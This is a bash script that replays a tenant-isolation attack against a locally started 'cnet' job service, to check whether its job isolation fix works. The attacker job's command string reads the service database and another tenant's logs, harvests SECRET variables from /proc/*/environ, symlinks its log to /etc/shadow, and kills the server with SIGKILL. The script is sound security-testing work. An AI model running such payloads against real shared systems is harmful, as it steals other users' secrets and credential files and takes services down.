#!/usr/bin/env bash
# Replays by hand, against any cnet binary, the attack of tests/e2e/job_isolation_e2e_test.cc: as
# root, tenant isobob's job reads the database, tenant isoalice's logs, run dir and environment,
# swaps its stdout.log for a link to /etc/shadow and SIGKILLs the service; prints what the API
# serves of bob's log and whether the service survived. Shows the test fails on the code before
# issue 9's job isolation (the old binary serves /etc/shadow, or dies) and passes after.
# Usage: scripts/job-attack-replay.sh CNET_BINARY [reads|links|kill]   (default: all three)
set -u
bin=$1 mode=${2:-all}
d=$(mktemp -d /tmp/cnet-attack.XXXXXX); chmod 755 "$d"
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1]); s.close()')
A=(--addr "127.0.0.1:$port")
"$bin" serve "${A[@]}" --data "$d/data" --init > "$d/out" 2> "$d/err" &
server=$!
for _ in $(seq 100); do curl -sf "http://127.0.0.1:$port/healthz" >/dev/null 2>&1 && break; sleep 0.1; done
admin=$(grep -o 'cnet_[A-Za-z0-9_-]*' "$d/out")
"$bin" admin tenant isoalice "${A[@]}" --token "$admin" >/dev/null
"$bin" admin tenant isobob "${A[@]}" --token "$admin" >/dev/null
ta=$("$bin" admin token --tenant isoalice "${A[@]}" --token "$admin")
tb=$("$bin" admin token --tenant isobob "${A[@]}" --token "$admin")
cat > "$d/victim.json" <<J
{"name": "victim", "command": ["sh", "-c", "echo LOG-SECRET; echo FILE-SECRET > notes; sleep 120"],
 "env": {"SECRET": "ENV-SECRET"}, "accelerators_per_worker": 0}
J
"$bin" submit "$d/victim.json" "${A[@]}" --token "$ta" >/dev/null; sleep 1
data=$d/data
reads="id -un; cat $data/cnet.db $data/cnet.db-wal ../../../data/cnet.db-wal 2>/dev/null | grep -a -c isoalice; cat $data/runs/1/1/stdout.log ../../1/1/stdout.log $data-runs/1-1/notes; for p in /proc/[0-9]*; do cat \$p/environ 2>/dev/null | tr '\\\\000' '\\\\n' | grep SECRET; done; echo attack-done;"
links="ln -sf /etc/shadow stdout.log; ln -sf /etc/shadow ../../../runs/\$CNET_JOB_ID/1/stdout.log;"
kill="kill -9 $server;"
case $mode in reads) cmd="$reads" ;; links) cmd="echo attack-done; $links" ;; kill) cmd="echo attack-done; $kill" ;; *) cmd="$reads $links $kill" ;; esac
cat > "$d/attack.json" <<J
{"name": "attacker", "accelerators_per_worker": 0, "command": ["sh", "-c", "$cmd true"]}
J
"$bin" submit "$d/attack.json" "${A[@]}" --token "$tb" >/dev/null; sleep 3
echo "== served log of the attacker (first 12 lines):"
curl -s -H "Authorization: Bearer $tb" "http://127.0.0.1:$port/v1/jobs/2/logs" | head -12
echo "== service alive: $(kill -0 $server 2>/dev/null && echo yes || echo NO)"
kill $server 2>/dev/null; sleep 0.5; kill -9 $server 2>/dev/null
for p in /proc/[0-9]*; do tr '\000' ' ' < "$p/cmdline" 2>/dev/null | grep -q "echo FILE-SECRE[T]" && kill -9 "${p#/proc/}"; done 2>/dev/null
sleep 0.5; rm -rf "$d"
